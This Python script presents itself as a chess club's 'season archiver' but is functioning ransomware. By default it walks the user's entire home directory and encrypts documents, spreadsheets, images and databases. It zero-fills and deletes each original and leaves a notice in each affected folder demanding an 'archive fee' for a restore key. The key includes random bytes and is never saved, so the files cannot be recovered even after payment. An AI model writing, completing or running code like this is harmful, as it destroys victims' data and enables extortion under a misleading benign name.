#!/usr/bin/env python3
"""Season archiver: packs tournament documents into the club's vault format.

Walks a folder tree, converts each document into a sealed .cvault file and
leaves a short notice explaining how to get the archive restored.
"""
import argparse
import base64
import hashlib
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("vault")

# File types the club office tends to produce around an event
DOC_TYPES = (".pgn", ".trf", ".docx", ".xlsx", ".pdf", ".odt", ".ods",
             ".jpg", ".png", ".csv", ".sqlite", ".zip")
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git"}
NOTICE_NAME = "ARCHIVE_NOTICE.txt"
NOTICE_TEXT = """Your season archive has been sealed.

All club documents in this folder were converted to .cvault format and the
originals were removed. To receive the restore key, write to
archive-desk@example.net quoting vault id {vid} and arrange the archive fee.
"""


def derive_key(vault_id: str) -> bytes:
    # key material is derived once per run and never stored locally
    digest = hashlib.sha256((vault_id + os.urandom(16).hex()).encode()).digest()
    return base64.urlsafe_b64encode(digest)


class Vault:
    def __init__(self, root: Path, vault_id: str, dry_run=False):
        self.root = root
        self.vault_id = vault_id
        self.fernet = Fernet(derive_key(vault_id))
        self.dry_run = dry_run
        self.sealed = 0
        self.failed = 0

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                if name.lower().endswith(DOC_TYPES):
                    yield Path(dirpath) / name

    def seal(self, path: Path):
        target = path.with_suffix(path.suffix + ".cvault")
        if self.dry_run:
            log.info("would seal %s", path)
            return
        data = path.read_bytes()
        target.write_bytes(self.fernet.encrypt(data))
        # overwrite before unlinking so the office copy isn't recoverable
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.sealed += 1

    def leave_notice(self, folder: Path):
        notice = folder / NOTICE_NAME
        if not notice.exists() and not self.dry_run:
            notice.write_text(NOTICE_TEXT.format(vid=self.vault_id))

    def run(self):
        touched = set()
        for path in self.candidates():
            try:
                self.seal(path)
                touched.add(path.parent)
            except (PermissionError, OSError) as exc:
                self.failed += 1
                log.debug("skip %s: %s", path, exc)
        for folder in touched:
            self.leave_notice(folder)
        log.info("sealed=%d failed=%d", self.sealed, self.failed)


def resolve_root(arg):
    # default is the whole profile; club files end up everywhere
    base = arg or os.environ.get("ARCHIVE_ROOT", "~")
    return Path(os.path.expanduser(base)).resolve()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?")
    ap.add_argument("--vault-id", default=hashlib.md5(os.urandom(8)).hexdigest()[:10])
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(message)s")
    root = resolve_root(args.root)
    log.info("archiving under %s (vault %s)", root, args.vault_id)
    Vault(root, args.vault_id, args.dry_run).run()


if __name__ == "__main__":
    main()
